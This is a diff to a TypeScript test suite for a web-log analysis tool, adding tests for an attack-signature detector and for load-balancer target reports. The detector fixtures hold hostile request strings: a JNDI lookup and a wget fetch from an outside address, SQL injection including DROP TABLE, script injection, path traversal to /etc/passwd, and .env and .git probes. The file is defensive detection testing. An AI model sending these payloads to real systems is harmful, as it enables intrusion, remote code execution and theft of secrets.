@@ -33,6 +33,15 @@ const ANSWERS: Record<string, unknown[][]> = {
     ['2026-03-05 09:11', 1, 1, 300, 1, 9],
     ['2026-03-05 09:12', 1, 1, 2000000, 0, 4000],
   ],
+  minutes: [
+    ['2026-03-05 08:00', 3, 95700, 0, 0, 520],
+    ['2026-03-05 08:01', 1, 900, 0, 0, 300],
+    ['2026-03-05 08:20', 1, 100, 0, 1, 2000],
+    ['2026-03-05 08:30', 1, 0, 0, 0, 5],
+    ['2026-03-05 09:10', 2, 5300, 1, 0, 9],
+    ['2026-03-05 09:11', 1, 300, 1, 0, 9],
+    ['2026-03-05 09:12', 1, 2000000, 0, 0, 4000],
+  ],
   methods: [
     ['GET', 9, 4, 2102200, 2, 200 / 9, '2026-03-05 09:12'],
     ['POST', 6, 2, 350, 6, 100, '2026-03-06 10:00'],
@@ -44,6 +53,7 @@ const ANSWERS: Record<string, unknown[][]> = {
     ['FRA', 4, 3, 2001700, 0, 3, 0, 1, 1950],
   ],
   'response-sizes': [
+    ['all', 15, 2102550, 140170, 300, 2000000, 2000000, 2000000],
     ['2xx', 6, 2101600, 2_101_600 / 6, 5000, 2000000, 2000000, 2000000],
     ['3xx', 1, 0, 0, 0, 0, 0, 0],
     ['4xx', 7, 850, 850 / 7, 50, 300, 300, 300],
@@ -124,6 +134,7 @@ const ANSWERS: Record<string, unknown[][]> = {
     ['2026-03-05 08:20', 500, 'POST', 'shop.example.com/api', 'org=7', '192.0.2.20', 2000, 'PASS', null],
   ],
   'response-times': [
+    ['all', 15, 8042 / 15, 30, 4000, 4000, 4000],
     ['2xx', 6, 5870 / 6, 40, 4000, 4000, 4000],
     ['3xx', 1, 5, 5, 5, 5, 5],
     ['4xx', 7, 167 / 7, 30, 30, 30, 30],
@@ -166,6 +177,7 @@ const ANSWERS: Record<string, unknown[][]> = {
     ['10 to 100 kB', 'hit', 1, 0, 40, 40, 40],
     ['1 MB and more', 'miss', 1, 1, 4000, 4000, 4000],
   ],
+  'cache-rate': [[15, 4, 4, 6, 50, 2102550, 100000, (1e2 * 100_000) / 2_102_550]],
   cache: [
     ['PASS', 'pass', 6, 40, 350, 2150 / 6],
     ['MISS', 'miss', 4, 400 / 15, 2001900, 1452],
@@ -228,7 +240,10 @@ const ANSWERS: Record<string, unknown[][]> = {
 };
 
 /** Those that the day does not answer, and that have a test of their own below. */
-const ELSEWHERE = ['unusual-hours', 'scanners', 'levels', 'applications', 'messages'];
+const ELSEWHERE = [
+  ...['unusual-hours', 'scanners', 'attack-signatures', 'targets', 'target-answers'],
+  ...['levels', 'applications', 'messages'],
+];
 
 describe('the sections of CDNs, load balancers and web servers over a day worked out by hand', () => {
   let connection: DuckDBConnection;
@@ -319,6 +334,106 @@ describe('scanners', () => {
     ]);
     expect(await answer(connection, sectionOf('scanners'))).toEqual([
       ['203.0.113.1', 20, 10, 10, 'probe/1.0', '2026-03-05 08:00', '2026-03-05 08:00'],
+    ]);
+  });
+});
+
+describe('attack signatures', () => {
+  const asked = (path: string, query: string | null = null, user_agent = 'Mozilla/5.0'): RequestRow => ({
+    source: 'site',
+    day: '2026-03-05',
+    time: '2026-03-05 08:00:00',
+    client_ip: '203.0.113.1',
+    status: 404,
+    path,
+    query,
+    user_agent,
+  });
+  const attack = async (row: RequestRow) =>
+    (await answer(await openRequests([row]), sectionOf('attack-signatures'))).map(([kind]) => kind);
+
+  test.each([
+    ['code execution', asked('/', null, '$'.concat('{jndi:ldap://203.0.113.9/a}'))],
+    ['code execution', asked('/', 'x=%24%7B%24%7Blower%3Aj%7Dndi')],
+    ['code execution', asked('/cgi', 'cmd=;wget+http://203.0.113.9/x')],
+    ['code execution', asked('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php')],
+    ['SQL injection', asked('/item', 'id=1%27%20OR%20%271%27=%271')],
+    ['SQL injection', asked('/item', 'id=1+UNION+ALL+SELECT+1,2')],
+    ['SQL injection', asked('/item', 'id=1;DROP%20TABLE%20users')],
+    ['cross-site scripting', asked('/search', 'q=%3Cscript%3Ealert(1)')],
+    ['cross-site scripting', asked('/<img src=x onerror=alert(1)>')],
+    ['file inclusion', asked('/../../etc/hosts')],
+    ['file inclusion', asked('/', 'page=..%2F..%2Fetc%2Fpasswd')],
+    ['hidden files', asked('/.env')],
+    ['hidden files', asked('/app/.git/config')],
+    ['hidden files', asked('/backup.sql')],
+  ])('%s', async (kind, row) => {
+    expect(await attack(row)).toEqual([kind]);
+  });
+
+  test.each([
+    asked('/union-square/select-hotels', 'city=St.+Louis&from=a&or=1'),
+    asked('/environment', 'file=report.pdf&script=latin'),
+    asked('/a..b/c', 'q=rock+and+roll', 'curl/8.7.1'),
+    asked('/list', 'page=2&cat=5&sh=1', 'Mozilla/5.0 (Linux; Android 10; SH-M12) AppleWebKit/537.36'),
+    { ...asked('/'), referrer: 'file:///C:/Users/ada/start.html' },
+    asked('/articles/sql-injection-explained', 'price=5%25'),
+    asked('/api/items', 'filter[name]=cat;dog&sort=name'),
+  ])('nothing in $path?$query', async (row) => {
+    expect(await attack(row)).toEqual([]);
+  });
+
+  test('by client, with what succeeded', async () => {
+    const rows = [
+      asked('/.env'),
+      { ...asked('/.git/HEAD'), status: 200 },
+      { ...asked('/.env'), client_ip: '203.0.113.2' },
+    ];
+    expect(await answer(await openRequests(rows), sectionOf('attack-signatures'))).toEqual([
+      ['hidden files', '203.0.113.1', 2, 1, 2, '/.env', 'Mozilla/5.0', '2026-03-05 08:00', '2026-03-05 08:00'],
+      ['hidden files', '203.0.113.2', 1, 0, 1, '/.env', 'Mozilla/5.0', '2026-03-05 08:00', '2026-03-05 08:00'],
+    ]);
+  });
+});
+
+describe('behind load balancers', () => {
+  const balanced = (status: number, target: string, target_status: string, server_ms: number | null): RequestRow => ({
+    source: 'site',
+    day: '2026-03-05',
+    time: '2026-03-05 08:00:00',
+    client_ip: '192.0.2.10',
+    application: 'app/shop/1',
+    status,
+    bytes_sent: 100,
+    duration_ms: 10,
+    server_ms,
+    error_code: status === 502 ? 'LambdaInvalidResponse' : null,
+    extra: JSON.stringify({ target, target_status, target_group: 'shop' }),
+  });
+  let connection: DuckDBConnection;
+  beforeAll(async () => {
+    connection = await openRequests([
+      balanced(200, '10.0.0.1:80', '200', 4),
+      balanced(200, '10.0.0.1:80', '200', 6),
+      balanced(500, '10.0.0.1:80', '500', 8),
+      balanced(200, '10.0.0.2:80', '201', 2),
+      balanced(502, '10.0.0.2:80', '-', null),
+      balanced(503, '-', '-', null),
+    ]);
+  });
+
+  test('targets', async () => {
+    expect(await answer(connection, sectionOf('targets'))).toEqual([
+      ['app/shop/1', 'shop', '10.0.0.1:80', 3, 300, 1, 0, 6, 8],
+      ['app/shop/1', 'shop', '10.0.0.2:80', 2, 200, 0, 1, 2, 2],
+      ['app/shop/1', 'shop', null, 1, 100, 0, 1, null, null],
+    ]);
+  });
+  test('target-answers, where they differ', async () => {
+    expect(await answer(connection, sectionOf('target-answers'))).toEqual([
+      [200, '201', null, 1, 1, 10, '2026-03-05 08:00'],
+      [502, null, 'LambdaInvalidResponse', 1, 1, 10, '2026-03-05 08:00'],
+      [503, null, null, 1, 1, 10, '2026-03-05 08:00'],
     ]);
   });
 });
